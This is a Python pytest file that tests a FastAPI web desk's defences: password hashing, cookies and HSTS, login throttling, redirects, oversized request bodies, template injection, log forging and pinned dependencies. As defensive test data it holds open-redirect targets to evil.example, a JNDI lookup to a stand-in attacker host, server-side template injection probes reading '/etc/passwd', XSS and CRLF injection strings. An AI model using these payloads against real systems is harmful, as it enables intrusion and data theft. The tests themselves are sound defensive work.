"""Attacks on the desk that no other file holds: passwords, cookies, odd bodies, templates in titles, the log, the supply chain.

docs/desk.md says which tests answer which row of the catalogue of attacks."""

from __future__ import annotations

import re
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from argon2 import PasswordHasher
from fastapi import FastAPI
from starlette.testclient import TestClient

import config
import knowledge
import passwords
import store
from desk import app as desk_app
from desk.pages.signin import throttle
from tests.desk_support import NOW, PASSWORD, Rig, assessment, document, rig, token

HOUSE = Path(__file__).resolve().parents[1]
ITEM = store.short_id(document(2).key)


@pytest.fixture
def desk(tmp_path: Path) -> Rig:
    throttle._failures.clear()
    return rig(tmp_path)


def audited(desk: Rig) -> list[tuple[str, str, str]]:
    return [(line.who, line.what, line.subject) for line in desk.store.audit_log(200)]


# ---------------------------------------------------------------- passwords


def test_a_hash_of_older_parameters_is_made_again_at_sign_in(desk: Rig) -> None:
    old = PasswordHasher(time_cost=1, memory_cost=8192, parallelism=1).hash(PASSWORD)
    desk.store.officers.set_password("viewer", old)
    assert passwords.outdated(old)
    desk.client("viewer")
    made = desk.store.officers.password_hash("viewer")
    assert made and made != old and not passwords.outdated(made) and passwords.right(made, PASSWORD)


def test_an_unknown_login_costs_as_much_as_a_known_one(desk: Rig, monkeypatch: pytest.MonkeyPatch) -> None:
    """Counted, not timed: one verification of one hash of the same parameters, and the same answer."""
    seen: list[str] = []
    verify = passwords._hasher.verify

    class Counting:
        def verify(self, stored: str, password: str) -> bool:
            seen.append(stored.rsplit("$", 2)[0])
            return bool(verify(stored, password))

    monkeypatch.setattr(passwords, "_hasher", Counting())
    answers = [
        desk.client().post("/dang-nhap", data={"login": login, "password": "sai"}) for login in ("viewer", "khong-co")
    ]
    desk.store.officers.disable("leader")
    answers.append(desk.client().post("/dang-nhap", data={"login": "leader", "password": PASSWORD}))
    assert [one.status_code for one in answers] == [401] * 3 and len(seen) == 3 and len(set(seen)) == 1
    assert len({re.sub(r'value="[^"]*"', "", one.text) for one in answers}) == 1, "nothing tells which it was"


def test_no_more_than_four_hashes_are_made_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    at_once, most, lock = 0, 0, threading.Lock()

    class Slow:
        def verify(self, *_: str) -> None:
            nonlocal at_once, most
            with lock:
                at_once += 1
                most = max(most, at_once)
            gate.wait(0.05)
            with lock:
                at_once -= 1

    gate = threading.Event()
    monkeypatch.setattr(passwords, "_hasher", Slow())
    burst = [threading.Thread(target=passwords.right, args=("x", "y")) for _ in range(16)]
    for one in burst:
        one.start()
    for one in burst:
        one.join()
    assert most == 4


# ---------------------------------------------------------------- cookies and headers


@pytest.fixture
def secure(desk: Rig, tmp_path: Path) -> FastAPI:
    """The desk as it stands behind https."""
    settings = config.Settings(
        data_dir=tmp_path, public_url="https://desk.test", author_key="a" * 40, desk_key="d" * 40, vault_key="v" * 40
    )  # type: ignore[arg-type]
    return desk_app.create(settings, desk.store, knowledge.load(), lambda: NOW)


def test_the_cookie_is_host_only_secure_and_out_of_scripts_reach(secure: FastAPI) -> None:
    client = TestClient(secure, "https://desk.test", follow_redirects=False)
    cookie = client.post("/dang-nhap", data={"login": "viewer", "password": PASSWORD}).headers["set-cookie"]
    name, *rest = (part.strip().lower() for part in cookie.split(";"))
    assert name.startswith("__host-langnghe=") and len(name) < 200
    assert {"secure", "httponly", "path=/", "samesite=lax"} <= set(rest) and not any(
        one.startswith("domain") for one in rest
    )
    assert client.get("/").status_code == 200


def test_browsers_are_told_to_stay_on_https(secure: FastAPI, desk: Rig) -> None:
    client = TestClient(secure, "https://desk.test", follow_redirects=False)
    for address in ("/dang-nhap", "/tinh/desk.css", "/khong-co"):
        assert client.get(address).headers["strict-transport-security"] == "max-age=31536000; includeSubDomains"
    assert "strict-transport-security" not in desk.client().get("/dang-nhap").headers, "not over plain http on loopback"


def test_signing_out_clears_what_the_browser_kept(desk: Rig) -> None:
    client = desk.client("viewer")
    answer = client.post("/dang-xuat", data={"token": token(client.get("/").text)})
    assert answer.headers["clear-site-data"] == '"cache", "storage"'
    assert client.get("/").headers["cache-control"] == "no-store"


@pytest.mark.parametrize("header", ["X-Forwarded-For", "X-Real-IP", "Forwarded"])
def test_no_header_changes_who_is_counted(desk: Rig, header: str) -> None:
    """Guesses from ever new addresses, as the guesser says, are guesses from one."""
    for number in range(8):
        client = desk.client()
        client.post("/dang-nhap", data={"login": "viewer", "password": "sai"}, headers={header: f"10.0.0.{number}"})
    assert desk.client().post("/dang-nhap", data={"login": "viewer", "password": PASSWORD}).status_code == 429


# ---------------------------------------------------------------- where a sign-in leads


@pytest.mark.parametrize(
    "target",
    [
        "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "https:evil.example", "https://evil.example",
        "http:/\\evil.example", "javascript:alert(1)", "/\t/evil.example", "/\r\nLocation: https://evil.example", "／／evil.example",
        "/\u2028/evil.example", "@evil.example", ".evil.example", "/\x00//evil.example",
    ],
)  # fmt: skip
def test_a_sign_in_stays_on_the_desk(desk: Rig, target: str) -> None:
    answer = desk.client().post("/dang-nhap", data={"login": "viewer", "password": PASSWORD, "tiep": target})
    assert (answer.status_code, answer.headers["location"]) == (303, "/")


# ---------------------------------------------------------------- bodies made to hurt


def parts(number: int, named: bool = False) -> bytes:
    one = b'--x\r\nContent-Disposition: form-data; name="a"' + (b'; filename="f"' if named else b"") + b"\r\n\r\nv\r\n"
    return one * number + b"--x--\r\n"


BODIES: dict[str, bytes] = {
    "a million fields": parts(1_000_000)[: 25 * 2**20],
    "ten thousand fields": parts(10_000),
    "ten thousand files": parts(10_000, named=True),
    "a field without end": b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n' + b"v" * (25 * 2**20),
    "a head without end": b"--x\r\nX: " + b"h" * (5 * 2**20),
    "only boundaries": b"--x\r\n" * 1_000_000,
    "no boundary": b"v" * (5 * 2**20),
}


@pytest.mark.parametrize("name", BODIES)
def test_a_body_made_to_hurt_is_refused_soon(desk: Rig, name: str) -> None:
    """On the page that takes the largest; what it costs is counted in processor time, which other work does not lengthen."""
    client = desk.client("province")
    headers = {"Content-Type": "multipart/form-data; boundary=x"}
    began = time.process_time()
    answer = client.post("/bao-tin", content=BODIES[name], headers=headers)
    assert answer.status_code in {400, 403, 413, 422}, answer.status_code
    assert time.process_time() - began < 3.0
    assert [one for one in desk.store.documents.unassessed("x", 10) if one.kind == "report"] == []


def test_a_body_that_lies_about_its_length_is_cut_off(desk: Rig) -> None:
    """In pieces, without a length: counted as it comes."""
    client, sent = desk.client("province"), 0

    def endless() -> Iterator[bytes]:
        nonlocal sent
        while sent < 100 * 2**20:
            sent += 2**20
            yield b"v" * 2**20

    answer = client.post("/dang-nhap", content=endless(), headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert answer.status_code == 413


@pytest.mark.parametrize("count", [101, 1_000, 10_000])
def test_too_many_headers_are_refused(desk: Rig, count: int) -> None:
    assert desk.client("viewer").get("/", headers={f"X-{n}": "1" for n in range(count)}).status_code == 431


@pytest.mark.parametrize("field", [{"login": ["viewer", "admin"]}, {"roles": "admin"}, {"active": "1"}])
def test_fields_that_a_form_does_not_have_do_nothing(desk: Rig, field: dict[str, object]) -> None:
    form = {"login": "viewer", "password": PASSWORD} | field
    desk.client().post("/dang-nhap", data=form)  # type: ignore[arg-type]
    viewer = desk.store.officers.get("viewer")
    assert viewer and viewer.roles == ("viewer",)
    assert len([who for who, what, _ in audited(desk) if what == "đăng nhập"]) <= 1, "one field, one account"


# ---------------------------------------------------------------- templates in what others wrote

TEMPLATES = (
    "{{7*7}}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "${jndi:ldap://evil.example/a}", "#{7*7}",
    "{0.__class__.__init__.__globals__}", "%s%n%x%(secret)s", "<%= 7*7 %>", "f'{open(1)}'", "{{ config }}", "{% include '/etc/passwd' %}",
)  # fmt: skip


@pytest.mark.parametrize("text", TEMPLATES)
def test_a_template_in_a_title_stays_letters(desk: Rig, text: str) -> None:
    from markupsafe import escape

    from records import Placement, Reason, Signature

    evil = replace(document(31, title=f"Tin {text}", lead=text, body=text), outlet=f"Báo {text}")
    desk.store.documents.keep(evil)
    placement = Placement("s-31", None, Signature((31,), (1, 2, 3), {"bảo hiểm": 1.0}))
    assert desk.store.settle(evil, assessment(evil.key), placement, Reason("daily", "test", text), [], NOW)
    client = desk.client("admin")
    for address in (f"/tin/{store.short_id(evil.key)}", "/tin"):
        page = client.get(address).text
        assert f"Tin {escape(text)}" in page, address
        assert "49" not in re.sub(r"[0-9a-f]{16,}|\d{2}/\d{2}/\d{4}|\d\d:\d\d", "", page).split("Tin ")[1][:40]


def test_templates_are_files_of_ours_only() -> None:
    """Nothing in the desk makes a template out of a text, or formats what others wrote."""
    for file in sorted((HOUSE / "desk").rglob("*.py")):
        source = file.read_text("utf-8")
        assert not re.search(r"from_string\(|render_template_string|\beval\(|\bexec\(|Template\(", source), file.name


# ---------------------------------------------------------------- the log


def test_each_thing_done_leaves_one_line(desk: Rig) -> None:
    analyst, officer, admin = desk.client("analyst"), desk.client("duty_officer"), desk.client("admin")
    before = len(audited(desk))
    form = {"token": token(analyst.get(f"/tin/{ITEM}").text)}
    analyst.post(f"/tin/{ITEM}/nhan", data=form | {"task": "sentiment", "new": "positive"})
    analyst.get("/xuat/csv")
    form = {"token": token(officer.get("/tim-kiem").text)}
    officer.post(f"/tin/{ITEM}/quyet-dinh", data=form | {"status": "dismissed", "note": "nhầm", "seen": "0"})
    form = {"token": token(admin.get("/tai-khoan").text)}
    new = {"login": "moi", "name": "Mới", "password": PASSWORD, "roles": "viewer"}
    admin.post("/tai-khoan", data=form | new)
    admin.post("/tai-khoan/moi/khoa", data=form)
    desk.client().post("/dang-nhap", data={"login": "admin", "password": "sai"})
    analyst.get("/tai-khoan")
    found = audited(desk)[: len(audited(desk)) - before][::-1]
    assert found == [
        ("analyst", "sửa nhãn", ITEM),
        ("analyst", "xuất danh sách", "csv"),
        ("duty_officer", "quyết định", ITEM),
        ("admin", "thêm tài khoản", "moi"),
        ("admin", "khóa tài khoản", "moi"),
        ("bàn làm việc", "đăng nhập sai", "admin"),
        ("analyst", "bị từ chối", "GET /tai-khoan"),
    ]
    assert desk.store.audit_intact()


@pytest.mark.parametrize(
    "login",
    ["x\n20/08/2026 admin đăng nhập", "x\r\nadmin", "x\u2028admin", "<script>alert(1)</script>", "x\x1b[2Jadmin"],
)
def test_nobody_forges_a_line_of_the_log(desk: Rig, login: str) -> None:
    before = len(audited(desk))
    desk.client().post("/dang-nhap", data={"login": login, "password": "sai"})
    assert len(audited(desk)) == before + 1 and audited(desk)[0][:2] == ("bàn làm việc", "đăng nhập sai")
    page = desk.client("admin").get("/nhat-ky").text
    assert "<script>alert(1)" not in page and "\x1b" not in page


def test_refusals_do_not_flood_the_log(desk: Rig) -> None:
    client = desk.client("viewer")
    for _ in range(100):
        client.get("/tai-khoan")
    refused = [one for one in audited(desk) if one[1] == "bị từ chối"]
    assert 1 <= len(refused) <= 30


# ---------------------------------------------------------------- the supply chain


@pytest.mark.parametrize("name", ["requirements.lock", "requirements-dev.lock", "requirements-pip.lock"])
def test_every_library_is_pinned_by_its_hash(name: str) -> None:
    text = re.sub(r"\\\n\s*", " ", (HOUSE / name).read_text("utf-8"))
    lines = [line for line in text.splitlines() if line.strip() and not line.lstrip().startswith("#")]
    assert lines
    for line in lines:
        assert re.match(r"[A-Za-z0-9._-]+==\S+( ;[^-]+)?( --hash=sha256:[0-9a-f]{64})+\s*$", line) or re.match(
            r"[A-Za-z0-9._-]+==\S+.*--hash=sha256:[0-9a-f]{64}", line
        ), line[:100]


def test_libraries_come_from_one_place_and_are_checked() -> None:
    makefile = (HOUSE / "Makefile").read_text("utf-8")
    installs = re.findall(r"pip install(?:.*)", makefile)
    assert installs and all("--require-hashes" in line or "--no-deps" in line for line in installs), installs
    for name in ("requirements.lock", "requirements-dev.lock", "pyproject.toml"):
        assert not re.search(r"git\+|--extra-index-url|--index-url|@ https?://", (HOUSE / name).read_text("utf-8")), (
            name
        )


def test_every_library_asked_for_is_in_the_lock() -> None:
    import tomllib

    asked = tomllib.loads((HOUSE / "pyproject.toml").read_text("utf-8"))["project"]["dependencies"]
    locked = set(re.findall(r"^([A-Za-z0-9._-]+)==", (HOUSE / "requirements.lock").read_text("utf-8"), re.M))
    names = {re.split(r"[\[<>=!~ ]", one)[0].lower().replace("_", "-") for one in asked}
    assert names <= {one.lower().replace("_", "-") for one in locked}
